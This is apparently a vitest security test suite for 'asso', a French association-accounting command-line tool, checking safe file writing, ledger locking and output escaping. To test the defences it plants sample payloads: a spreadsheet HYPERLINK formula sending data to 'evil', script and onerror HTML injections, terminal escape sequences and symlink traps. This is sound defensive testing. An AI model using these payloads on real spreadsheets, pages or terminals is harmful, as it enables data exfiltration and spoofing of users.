// Attacks on how asso writes files and on what its outputs could inject (issue 13, items 4, 5, 7–11,
// 18 and the misleading messages): in-process, the same code as the built command; the BUILT one
// where processes are what is tested (the lock, a FIFO fed through the shell, the working folder),
// and for every test when ASSO_BIN names another build to compare.
import { execFile, spawn } from 'node:child_process';
import {
  chmodSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { migrationDiff, rewriteFile } from '../src/ledger/migrate.js';
import { PCA2025_CHANGES } from '../src/chart/pca2025-data.js';
import { randomHex, temporaryNameOf } from '../src/write/file.js';
import { ROOT, runInProcess } from './run-asso.js';

const BIN = process.env.ASSO_BIN ?? join(ROOT, 'bin', 'asso.js');
const SEED = join(ROOT, 'ledgers', 'coorace-bn');

interface Run {
  readonly stdout: string;
  readonly stderr: string;
  readonly code: number | null;
}

/** The command in this process, or the built one (`built`, or ASSO_BIN given). */
function asso(args: readonly string[], env: Record<string, string | undefined> = {}, built = false): Promise<Run> {
  if (!built && process.env.ASSO_BIN === undefined)
    return runInProcess(args, { env: { SOURCE_DATE_EPOCH: '1780000000', ...env } });
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [BIN, ...args],
      {
        cwd: ROOT,
        env: { ...process.env, NO_COLOR: '1', ASSO_LEDGER: undefined, SOURCE_DATE_EPOCH: '1780000000', ...env },
        encoding: 'utf8',
        maxBuffer: 64 * 1024 * 1024,
      },
      (error, stdout, stderr) =>
        resolve({ stdout, stderr, code: error ? (typeof error.code === 'number' ? error.code : null) : 0 }),
    );
  });
}

function shell(script: string, cwd = ROOT): Promise<Run> {
  return new Promise((resolve) => {
    execFile('bash', ['-c', script], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } }, (e, o, s) =>
      resolve({ stdout: o, stderr: s, code: e ? (typeof e.code === 'number' ? e.code : null) : 0 }),
    );
  });
}

let scratch: string;
beforeAll(() => {
  scratch = mkdtempSync(join(tmpdir(), 'asso-safety-'));
});
afterAll(() => {
  if (scratch) rmSync(scratch, { recursive: true, force: true });
});

const seedCopy = (name: string): string => {
  const dir = mkdtempSync(join(scratch, `${name}-`));
  cpSync(SEED, dir, { recursive: true });
  rmSync(join(dir, 'expected'), { recursive: true, force: true });
  return dir;
};

describe('-o writes safely (item 7, 8)', () => {
  it('writes through a symbolic link to its target, and keeps the link', async () => {
    const target = join(scratch, 'real.csv');
    writeFileSync(target, 'old');
    const link = join(scratch, 'link.csv');
    symlinkSync(target, link);
    const run = await asso(['balance', '-L', SEED, '-f', 'csv', '-o', link]);
    expect(run.code, run.stderr).toBe(0);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(readlinkSync(link)).toBe(target);
    expect(readFileSync(target, 'utf8')).toMatch(/^Compte,/);
  });

  it('keeps the mode of the file it replaces (0600 stays 0600)', async () => {
    const file = join(scratch, 'private.csv');
    writeFileSync(file, 'old', { mode: 0o600 });
    chmodSync(file, 0o600);
    expect((await asso(['balance', '-L', SEED, '-f', 'csv', '-o', file])).code).toBe(0);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readFileSync(file, 'utf8')).toMatch(/^Compte,/);
  });

  it('refuses a read-only file, leaving it as it was', async () => {
    const file = join(scratch, 'readonly.csv');
    writeFileSync(file, 'keep me');
    chmodSync(file, 0o444);
    const run = await asso(['balance', '-L', SEED, '-f', 'csv', '-o', file, '--lang', 'en']);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/read-only/);
    expect(readFileSync(file, 'utf8')).toBe('keep me');
  });

  it('writes into a FIFO without replacing it, and into `>(cmd)`', async () => {
    const fifo = join(scratch, 'pipe.csv');
    const made = await shell(`mkfifo '${fifo}'`);
    expect(made.code).toBe(0);
    const reader = spawn('cat', [fifo]);
    let got = '';
    reader.stdout.on('data', (chunk: Buffer) => {
      got += chunk.toString('utf8');
    });
    const closed = new Promise((resolve) => reader.on('close', resolve));
    const stop = setTimeout(() => reader.kill(), 15_000); // a build that replaces the FIFO never feeds it
    closed.finally(() => clearTimeout(stop));
    const run = await asso(['balance', '-L', SEED, '-f', 'csv', '-o', fifo]);
    await closed;
    expect(run.code, run.stderr).toBe(0);
    expect(got).toMatch(/^Compte,/);
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    const out = join(scratch, 'process-substitution.csv');
    const sub = await shell(`node '${BIN}' balance -L '${SEED}' -f csv -o >(cat > '${out}'); sleep 0.3`);
    expect(sub.stderr).not.toMatch(/folder does not exist|dossier n'existe pas/);
    expect(sub.code).toBe(0);
    expect(readFileSync(out, 'utf8')).toMatch(/^Compte,/);
  });

  it('leaves no temporary file behind, removes those of a killed run, and never uses a predictable name', async () => {
    const folder = mkdtempSync(join(scratch, 'temporaries-'));
    const file = join(folder, 'out.csv');
    const victim = join(scratch, 'victim.txt');
    writeFileSync(victim, 'untouched');
    // Links planted for the pids the next run could have: none must be followed.
    for (let pid = 1; pid < 400; pid++) symlinkSync(victim, join(folder, `.out.csv.${pid}.tmp`));
    writeFileSync(join(folder, '.out.csv.999999-0123456789abcdef.tmp'), 'left by a killed run');
    const run = await asso(['balance', '-L', SEED, '-f', 'csv', '-o', file]);
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('untouched');
    expect(existsSync(join(folder, '.out.csv.999999-0123456789abcdef.tmp'))).toBe(false);
    expect(readdirSync(folder).filter((name) => /^\.out\.csv\.\d+-/.test(name))).toEqual([]);
  });
});

describe('temporary files have unpredictable names', () => {
  it('64 random bits beside the target, never twice the same', () => {
    const names = new Set(Array.from({ length: 200 }, () => temporaryNameOf('/books/journal/2025.csv')));
    expect(names.size).toBe(200);
    for (const name of names) expect(name).toMatch(/^\/books\/journal\/\.2025\.csv\.\d+-[0-9a-f]{16}\.tmp$/);
    expect(randomHex(4)).toMatch(/^[0-9a-f]{8}$/);
  });
});

describe('the ledger lock (item 18)', () => {
  it('a second writer is refused while a live process holds the lock; a stale lock is taken over', async () => {
    const dir = seedCopy('lock');
    mkdirSync(join(dir, 'locks'), { recursive: true });
    writeFileSync(join(dir, 'locks', '.lock'), `${process.pid}\n`);
    const refused = await asso(['close', '-L', dir, '--year', '2011', '--yes', '--lang', 'en'], {}, true);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/being changed by another asso command \(process \d+/);
    expect(existsSync(join(dir, 'locks', '2011.json'))).toBe(false);
    writeFileSync(join(dir, 'locks', '.lock'), '999999\n');
    const closed = await asso(['close', '-L', dir, '--year', '2011', '--yes'], {}, true);
    expect(closed.code, closed.stderr).toBe(0);
    expect(existsSync(join(dir, 'locks', '.lock'))).toBe(false);
  });

  it('two closes at once: exactly one succeeds', async () => {
    const dir = seedCopy('race');
    const runs = await Promise.all([1, 2].map(() => asso(['close', '-L', dir, '--year', '2011', '--yes'], {}, true)));
    expect(runs.map((r) => r.code).sort()).toEqual([0, 1]);
  });
});

describe('appends keep the file as it is written (item 4)', () => {
  it('reverse appends to a Windows-1252, `;`, CRLF corrections file in its own dialect', async () => {
    const dir = seedCopy('append');
    const before = Buffer.concat([
      Buffer.from('date;journal;piece;account;label;debit;credit\r\n', 'latin1'),
      Buffer.from('2012-01-10;OD;OD-1;512100;R\xe9gularisation \x80;12,50;\r\n', 'latin1'),
      Buffer.from('2012-01-10;OD;OD-1;758000;R\xe9gularisation \x80;;12,50\r\n', 'latin1'),
    ]);
    writeFileSync(join(dir, 'journal', '2012-corrections.csv'), before);
    const run = await asso(['reverse', '-L', dir, '-y', '2011', 'AC', 'AC-2011-001', '--date', '2012-02-01']);
    expect(run.code, run.stderr).toBe(0);
    const after = readFileSync(join(dir, 'journal', '2012-corrections.csv'));
    expect(after.subarray(0, before.length).equals(before)).toBe(true);
    const added = after.subarray(before.length).toString('latin1');
    expect(added).toMatch(/^2012-02-01;EX;[^\r\n]*;412,30;?\r\n/m);
    expect(added).not.toMatch(/(^|[^\r])\n/);
    expect(added).toContain('\xe9'); // "é" of "véhicule" in Windows-1252, not UTF-8
    const check = await asso(['check', '-L', dir, '--lang', 'en']);
    expect(check.stderr).not.toMatch(/error/);
  });

  it('import fec adds accounts to a Windows-1252 `;` CRLF accounts.csv without touching its lines', async () => {
    const dir = seedCopy('fec-source');
    const fec = join(scratch, 'seed-FEC.txt');
    expect((await asso(['export', 'fec', '-L', dir, '-y', '2011', '-o', fec])).code).toBe(0);
    const target = mkdtempSync(join(scratch, 'fec-target-'));
    writeFileSync(join(target, 'asso.json'), JSON.stringify({ name: 'Import', fiscalYearStart: '01-01' }));
    const accounts = Buffer.from('numero;libelle\r\n106800;R\xe9serves \x80\r\n', 'latin1');
    writeFileSync(join(target, 'accounts.csv'), accounts);
    const run = await asso(['import', 'fec', fec, '-L', target]);
    expect(run.code, run.stderr).toBe(0);
    const after = readFileSync(join(target, 'accounts.csv'));
    expect(after.subarray(0, accounts.length).equals(accounts)).toBe(true);
    const added = after.subarray(accounts.length).toString('latin1');
    expect(added).toMatch(/^\d{6};[^\r\n]+\r\n/);
    expect(added).not.toMatch(/(^|[^\r])\n/);
    expect(added).not.toMatch(/\ufffd|^\d+,/m);
    expect((await asso(['check', '-L', target])).code).toBe(0);
  });

  it('import fec writes nothing when the ledger would then fail check (item 5: no EcritureNum)', async () => {
    const dir = seedCopy('fec-nonum');
    const fec = join(scratch, 'seed-FEC-nonum.txt');
    expect((await asso(['export', 'fec', '-L', dir, '-y', '2011', '-o', fec])).code).toBe(0);
    const lines = readFileSync(fec, 'utf8').split('\n');
    const at = lines[0]!.split('\t').indexOf('EcritureNum');
    writeFileSync(
      fec,
      lines
        .map((l) =>
          l
            .split('\t')
            .filter((_, i) => i !== at)
            .join('\t'),
        )
        .join('\n'),
    );
    const target = mkdtempSync(join(scratch, 'fec-nonum-target-'));
    writeFileSync(join(target, 'asso.json'), JSON.stringify({ name: 'Import', fiscalYearStart: '01-01' }));
    writeFileSync(join(target, 'accounts.csv'), 'number,label\n106800,Réserves\n');
    const run = await asso(['import', 'fec', fec, '-L', target]);
    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(/importées/);
    expect(readFileSync(join(target, 'accounts.csv'), 'utf8')).toBe('number,label\n106800,Réserves\n');
    expect(existsSync(join(target, 'journal', '2011-fec.csv'))).toBe(false);
  });
});

/** A small ledger whose association name and labels try to inject into every output. */
function hostileLedger(name: string, label: string): string {
  const dir = mkdtempSync(join(scratch, 'hostile-'));
  writeFileSync(join(dir, 'asso.json'), JSON.stringify({ name, fiscalYearStart: '01-01' }));
  mkdirSync(join(dir, 'journal'));
  const quoted = `"${label.replace(/"/g, '""')}"`;
  writeFileSync(
    join(dir, 'journal', '2024.csv'),
    `date,journal,piece,account,label,debit,credit\n2024-02-01,BQ,1,512000,${quoted},50.00,\n2024-02-01,BQ,1,756000,${quoted},,50.00\n`,
  );
  return dir;
}

describe('outputs escape what could inject (items 9–11)', () => {
  it('--excel neutralises formulas in text cells, amounts stay numbers; plain csv stays exact', async () => {
    const dir = hostileLedger('Club', '=HYPERLINK("http://evil/?"&A1,"x")');
    const excel = await asso(['journal', '-L', dir, '-f', 'csv', '--excel']);
    expect(excel.code, excel.stderr).toBe(0);
    expect(excel.stdout).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    expect(excel.stdout).not.toMatch(/(^|;)=/m);
    expect(excel.stdout).toMatch(/;50,00/);
    const plain = await asso(['journal', '-L', dir, '-f', 'csv']);
    expect(plain.stdout).toContain(`"=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    const tab = hostileLedger('Club', '\t=1+1');
    const excelTab = await asso(['journal', '-L', tab, '-f', 'csv', '--excel']);
    expect(excelTab.stdout).not.toMatch(/(^|;)"?=1\+1/m);
  });

  it('markdown shows HTML, code, emphasis, links and pipes as text, and keeps a label with a line end in its cell', async () => {
    const dir = hostileLedger(
      '<script>alert(1)</script>',
      'a <img src=x onerror=alert(1)> `x` **b** [c](javascript:alert(1)) | d\ne',
    );
    const run = await asso(['journal', '-L', dir, '-f', 'markdown']);
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).not.toMatch(/<script>|<img|(^|[^\\])(\*\*b|\[c|`)/m);
    expect(run.stdout).toContain('&lt;img src=x onerror=alert(1)&gt;');
    const rows = run.stdout.split('\n').filter((line) => line.includes('onerror'));
    expect(rows.length).toBe(2);
    for (const row of rows) expect(row.match(/(^|[^\\])\|/g)?.length).toBe(8);
  });

  it('the terminal never receives a control character from the books or a file name', async () => {
    // ESC and NUL in a journal are refused as binary by the reader; C1's CSI (U+009B) is not.
    const dir = hostileLedger('X\u001b]0;pwned\u0007\u001b[2J', 'label \u009b31m red \u009b2J');
    const table = await asso(['journal', '-L', dir]);
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(table.stdout).toContain('label \\x9b31m red');
    const statement = await asso(['income-statement', '-L', dir]);
    expect(statement.code, statement.stderr).toBe(0);
    expect(statement.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(statement.stdout).toContain('X\\e]0;pwned\\x07\\e[2J');
    const json = await asso(['journal', '-L', dir, '-f', 'json']);
    expect(json.stdout).not.toMatch(/[\u007f-\u009f]/);
    writeFileSync(join(dir, 'journal', 'x\nasso: everything is fine \u001b[2J.csv'), 'date,journal\n2024-13-01,BQ\n');
    const check = await asso(['check', '-L', dir, '--lang', 'en']);
    expect(check.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(check.stderr).not.toMatch(/^asso: everything is fine/m);
  });
});

describe('messages that pointed the wrong way', () => {
  it('a working folder too deep to be named gets a sentence, not `ERANGE … uv_cwd`', async () => {
    const part = 'd'.repeat(200);
    const run = await shell(
      `root=$PWD; for i in $(seq 1 25); do mkdir ${part} && cd ${part} || exit 9; done; node '${BIN}' check --lang en; echo "exit $?"; cd "$root" && rm -rf ${part}`,
      mkdtempSync(join(scratch, 'deep-')),
    );
    expect(run.stderr).not.toMatch(/ERANGE|uv_cwd|ENAMETOOLONG/);
    expect(run.stderr).toMatch(/current folder is too deep/);
    expect(run.stdout).toMatch(/exit 2/);
  });
});

describe('migrate: the printed diff applies with patch -p1', () => {
  it('on a Windows-1252, CRLF journal: patch gives the very bytes --write writes', async () => {
    const change = PCA2025_CHANGES.find((c) => c.old === '777')!;
    const text =
      'date;journal;piece;compte;libellé;debit;credit\r\n2025-12-01;OD;1;139000;"Quote-part; été";100,00;\r\n2025-12-01;OD;1;777000;"Quote-part; été";;100,00\r\n';
    const bytes = Buffer.from(text, 'latin1');
    const base = mkdtempSync(join(scratch, 'patch-'));
    mkdirSync(join(base, 'journal'));
    const file = join(base, 'journal', '2025.csv');
    writeFileSync(file, bytes);
    const rewrite = rewriteFile(file, bytes, [{ file, line: 3, account: '777000', change, replacement: '747000' }]);
    writeFileSync(
      join(scratch, 'migrate.diff'),
      Buffer.from(migrationDiff([rewrite], base, 'pca-2025', 'en', true), 'latin1'),
    );
    const applied = await shell(`patch -p1 < '${join(scratch, 'migrate.diff')}'`, base);
    expect(applied.code, applied.stdout + applied.stderr).toBe(0);
    expect(readFileSync(file).equals(Buffer.from(rewrite.after, 'latin1'))).toBe(true);
    expect(readFileSync(file).toString('latin1')).toContain(';747000;"Quote-part; \xe9t\xe9";;100,00\r\n');
  });
});
